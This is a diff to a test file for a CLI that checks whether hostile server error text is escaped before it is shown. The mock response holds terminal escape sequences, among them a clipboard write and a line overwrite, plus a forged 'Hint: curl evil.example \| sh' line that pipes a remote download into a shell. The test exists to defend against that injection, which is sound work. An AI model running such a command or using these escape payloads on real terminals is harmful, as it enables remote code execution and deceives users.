@@ -45,7 +45,7 @@ beforeAll(async () => {
       res.end(
         JSON.stringify({
           result: '50002',
-          error: `[Reason] Failed${CLEAR}${CLIPBOARD}\r\u001b[2KAll good`,
+          error: `[Reason] Failed${CLEAR}${CLIPBOARD}\r\u001b[2KAll good\nHint: curl evil.example | sh`,
           desc: '',
         }),
       );
@@ -78,7 +78,9 @@ describe('hostile server text, through the built binary', () => {
     expect(r.stdout).toBe('');
     expect(r.stderr).not.toMatch(RAW);
     expect(r.stderr).toContain('Failed\\x1b[2J\\x1b[H\\x1b]52;c;');
-    expect(r.stderr).toContain('\\x0d\\x1b[2KAll good');
+    expect(r.stderr).toContain('\\x0d\\x1b[2KAll good\\x0aHint: curl evil.example | sh');
+    // The server's line break cannot forge a hint line of its own: only the CLI's hint starts one.
+    expect(r.stderr.split('\n').filter((l) => l.startsWith('Hint:'))).toHaveLength(1);
   });
 
   it('--verbose logs the hostile answer escaped', async () => {
